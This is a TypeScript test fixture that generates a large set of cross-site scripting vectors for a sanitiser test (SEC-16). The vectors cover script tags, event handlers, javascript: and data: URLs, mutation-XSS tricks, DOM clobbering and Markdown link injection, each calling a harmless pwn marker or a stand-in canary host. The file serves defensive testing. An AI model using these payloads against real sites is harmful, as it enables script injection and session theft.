// Texts that run something where a page takes them for markup (SEC-16). Each calls `pwn` with its number, or asks the host below for
// something, so that whatever runs is known by it.

/** Nobody asks this host for anything unless a vector ran, or its markup took effect. */
export const CANARY_HOST = 'canary.test'

type Vector = (at: number) => string

const encoded = (text: string) => [...text].map((character) => `&#${character.charCodeAt(0)};`).join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')
const canary = (at: number) => `http://${CANARY_HOST}/${at}`

/** In HTML. */
const markup: readonly Vector[] = [
  // Scripts.
  (at) => `<script>pwn(${at})</script>`,
  (at) => `<ScRiPt>pwn(${at})</sCrIpT>`,
  (at) => `<script/x>pwn(${at})</script>`,
  (at) => `<script src="${canary(at)}.js"></script>`,
  (at) => `<script src="data:text/javascript,pwn(${at})"></script>`,
  (at) => `<script type="module">pwn(${at})</script>`,
  (at) => `<scr<script>ipt>pwn(${at})</script>`,
  (at) => `<svg><script>pwn(${at})</script></svg>`,
  (at) => `<svg><script href="data:text/javascript,pwn(${at})"></script></svg>`,
  (at) => `<svg><script>pwn&lpar;${at}&rpar;</script></svg>`,
  // Handlers.
  (at) => `<img src=x onerror=pwn(${at})>`,
  (at) => `<img src=x onerror="${encoded(`pwn(${at})`)}">`,
  (at) => `<img/src=x/onerror=pwn(${at})>`,
  (at) => `<IMG SRC=x OnErRoR=pwn(${at})//`,
  (at) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload=pwn(${at})>`,
  (at) => `<img src=x srcset="${canary(at)} 1x" onerror=pwn(${at})>`,
  (at) => `<picture><source srcset="${canary(at)}"><img src=x onerror=pwn(${at})></picture>`,
  (at) => `<image src=x onerror=pwn(${at})>`,
  (at) => `<svg onload=pwn(${at})>`,
  (at) => `<svg/onload=pwn(${at})//`,
  (at) => `<body onload=pwn(${at})>`,
  (at) => `<input autofocus onfocus=pwn(${at})>`,
  (at) => `<select autofocus onfocus=pwn(${at})></select>`,
  (at) => `<textarea autofocus onfocus=pwn(${at})></textarea>`,
  (at) => `<button onclick=pwn(${at})>press</button>`,
  (at) => `<p onclick=pwn(${at})>press</p>`,
  (at) => `<p onmouseover=pwn(${at})>over</p>`,
  (at) => `<p onpointerover=pwn(${at})>over</p>`,
  (at) => `<details open ontoggle=pwn(${at})><summary>open</summary></details>`,
  (at) => `<video src=x onerror=pwn(${at})></video>`,
  (at) => `<video><source onerror=pwn(${at})></video>`,
  (at) => `<audio src=x onerror=pwn(${at})></audio>`,
  (at) => `<marquee onstart=pwn(${at})>m</marquee>`,
  (at) => `<p tabindex=1 onfocus=pwn(${at})>focus</p>`,
  (at) => `<style>@keyframes k{}</style><p style="animation:k" onanimationstart=pwn(${at})>a</p>`,
  (at) => `<p contenteditable oninput=pwn(${at})>type</p>`,
  // Addresses that run.
  (at) => `<a href="javascript:pwn(${at})">go</a>`,
  (at) => `<a href=" &#1; javascript:pwn(${at})">go</a>`,
  (at) => `<a href="java&Tab;script&colon;pwn(${at})">go</a>`,
  (at) => `<a href="JaVaScRiPt:pwn(${at})">go</a>`,
  (at) => `<a href="javascript://x%0Apwn(${at})">go</a>`,
  (at) => `<a href="data:text/html,<script>top.pwn(${at})</script>">go</a>`,
  (at) => `<a href="vbscript:pwn(${at})">go</a>`,
  (at) => `<svg><a xlink:href="javascript:pwn(${at})"><text y="20">go</text></a></svg>`,
  (at) => `<svg><animate attributeName=href values="javascript:pwn(${at})" /><a id=x><text y="20">go</text></a></svg>`,
  (at) => `<svg><set attributeName=onmouseover to=pwn(${at})></svg>`,
  (at) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id=x xmlns='http://www.w3.org/2000/svg'><script>pwn(${at})</script></svg>`)}#x"/></svg>`,
  (at) => `<math><maction actiontype="statusline" xlink:href="javascript:pwn(${at})">go</maction></math>`,
  (at) => `<math href="javascript:pwn(${at})">go</math>`,
  (at) => `<img src="javascript:pwn(${at})">`,
  (at) => `<table background="javascript:pwn(${at})"><tr><td>t</td></tr></table>`,
  // Frames, objects, forms, and what turns the whole page.
  (at) => `<iframe srcdoc="<script>top.pwn(${at})</script>"></iframe>`,
  (at) => `<iframe src="javascript:top.pwn(${at})"></iframe>`,
  (at) => `<iframe src="${canary(at)}"></iframe>`,
  (at) => `<iframe onload=pwn(${at})></iframe>`,
  (at) => `<object data="javascript:pwn(${at})"></object>`,
  (at) => `<object data="data:text/html,<script>top.pwn(${at})</script>"></object>`,
  (at) => `<embed src="javascript:pwn(${at})">`,
  (at) => `<embed src="${canary(at)}" type="text/html">`,
  (at) => `<form action="javascript:pwn(${at})"><button>send</button></form>`,
  (at) => `<form action="${canary(at)}"><input name=a value=b><input type=submit></form>`,
  (at) => `<form id=f${at}></form><button form=f${at} formaction="javascript:pwn(${at})">send</button>`,
  (at) => `<isindex action="javascript:pwn(${at})" type=image>`,
  (at) => `<meta http-equiv=refresh content="0;url=${canary(at)}">`,
  (at) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>top.pwn(${at})</script>">`,
  (at) => `<base href="http://${CANARY_HOST}/${at}/"><img src="under-base"><script src="x.js"></script>`,
  (at) => `<link rel=stylesheet href="${canary(at)}.css">`,
  (at) => `<link rel=preload as=script href="${canary(at)}.js"><link rel=prefetch href="${canary(at)}">`,
  (at) => `<style>@import "${canary(at)}.css"; body{background:url(${canary(at)}.png)}</style>`,
  (at) => `<p style="background:url(${canary(at)}.png)">styled</p>`,
  (at) => `<template shadowrootmode=open><img src=x onerror=pwn(${at})></template>`,
  // Markup that means something else when it is written out and read again.
  (at) => `<noscript><p title="</noscript><img src=x onerror=pwn(${at})>"></noscript>`,
  (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn(${at})&gt;">`,
  (at) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='pwn(${at})'>"></style></h1>`,
  (at) => `<svg></p><style><a id="</style><img src=1 onerror=pwn(${at})>">`,
  (at) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(${at})>`,
  (at) => `<svg><style><img src=x onerror=pwn(${at})></style></svg>`,
  (at) => `<select><style></select><img src=x onerror=pwn(${at})></style></select>`,
  (at) => `<textarea></textarea><img title="<textarea>" src=x onerror=pwn(${at})>`,
  (at) => `<!--><img src=x onerror=pwn(${at})>-->`,
  (at) => `<?xml ?><img src=x onerror=pwn(${at})>`,
  (at) => `<![CDATA[><img src=x onerror=pwn(${at})>]]>`,
  (at) => `<svg><foreignObject><img src=x onerror=pwn(${at})></foreignObject></svg>`,
  (at) => `<svg><desc><img src=x onerror=pwn(${at})></desc></svg>`,
  (at) =>
    `<p id=getElementById name=body>clobber</p><form name=documentElement><input name=attributes></form><img src=x onerror=pwn(${at})>`,
  (at) => `<title><img src=x onerror=pwn(${at})></title><img src=x onerror=pwn(${at})>`,
  (at) => `<xmp><p title="</xmp><img src=x onerror=pwn(${at})>"></xmp>`,
  (at) => `<plaintext><img src=x onerror=pwn(${at})>`,
]

/** Only where Markdown is read. */
const marked: readonly Vector[] = [
  (at) => `[go](javascript:pwn(${at}))`,
  (at) => `[go](JavaScript:pwn(${at}))`,
  (at) => `[go](java&#115;cript:pwn(${at}))`,
  (at) => `[go](java\\script:pwn(${at}))`,
  (at) => `[go](<java\tscript:pwn(${at})>)`,
  (at) => `[go](%6aavascript:pwn(${at}))`,
  (at) => `[go](data:text/html;base64,${base64(`<script>top.pwn(${at})</script>`)})`,
  (at) => `[go](vbscript:pwn(${at}))`,
  (at) => `[go][r${at}]\n\n[r${at}]: javascript:pwn(${at})`,
  (at) => `<javascript:pwn(${at})>`,
  (at) => `![x](javascript:pwn(${at}))`,
  (at) => `![x" onerror="pwn(${at})](x)`,
  (at) => `![x](https://x.invalid/"onerror="pwn(${at}))`,
  (at) => `[x](# "onclick=pwn(${at})")`,
  (at) => `\`\`\`html" onmouseover="pwn(${at})\n<img src=x onerror=pwn(${at})>\n\`\`\``,
  (at) => `\`<img src=x onerror=pwn(${at})>\``,
  (at) => `| <img src=x onerror=pwn(${at})> |\n| --- |\n| <svg onload=pwn(${at})> |`,
  (at) => `[^n${at}]\n\n[^n${at}]: <img src=x onerror=pwn(${at})>`,
  (at) => `$\\href{javascript:pwn(${at})}{x}$`,
  (at) => `\`\`\`mermaid\ngraph LR; A["<img src=x onerror=pwn(${at})>"]; click A "javascript:pwn(${at})"\n\`\`\``,
]

const numbered = (vectors: readonly Vector[], from: number) => vectors.map((vector, index) => vector(from + index))

export const markupVectors: readonly string[] = numbered(markup, 1)
/** As Markdown, with its HTML. */
export const markdownVectors: readonly string[] = [...numbered(markup, 1001), ...numbered(marked, 2001)]

/** Short enough for a name. */
export const nameVectors = [
  '<svg onload=pwn(11)>',
  '<img src onerror=pwn(12)>',
  '"><svg onload=pwn(13)>',
  "'-pwn(14)-'",
  '{{pwn(15)}}',
  '<a href=javascript:pwn(16)>go</a>',
] as const
